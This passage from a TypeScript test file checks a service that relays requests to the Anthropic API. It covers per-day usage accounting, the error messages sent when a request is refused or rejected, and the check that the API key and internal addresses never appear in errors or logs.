      expect(store.usageOf(group.jid, '2026-01-01')).toEqual(usage(1200, 80, 300, 40));
      expect(store.usageOf(group.jid, '2025-12-31')).toEqual(usage(0, 0));

      const sent = (runtime.started[0]?.stdinLines ?? []).map(
        (line) => JSON.parse(line) as { type: string; message?: string },
      );
      const errors = sent.filter((frame) => frame.type === 'model.error').map((f) => f.message);
      expect(errors).toHaveLength(2);
      expect(errors[0]).toBe(
        'The request was refused: content block 1 of message 1 is an image with a url source; only base64 sources are allowed.',
      );
      expect(errors[1]).toMatch(
        /^The Anthropic API rejected the request \(400 invalid_request_error: /,
      );
      for (const text of [...errors, outcome.error ?? '']) {
        expect(text).not.toContain(KEY);
        expect(text).not.toContain(fake.url);
        expect(text).not.toContain('127.0.0.1');
      }
      const logLines = fs
        .readFileSync(path.join(config.logsDir, LOG_FILE), 'utf8')
        .split('\n')
        .filter((line) => line !== '');
      expect(logLines.some((line) => line.includes('model request refused'))).toBe(true);
      for (const line of logLines) expect(line).not.toContain(KEY);
    } finally {
      await core.shutdown(1_000);
      await runtime.cleanup();
      store.close();
      fs.rmSync(home, { recursive: true, force: true });
    }
  });
});
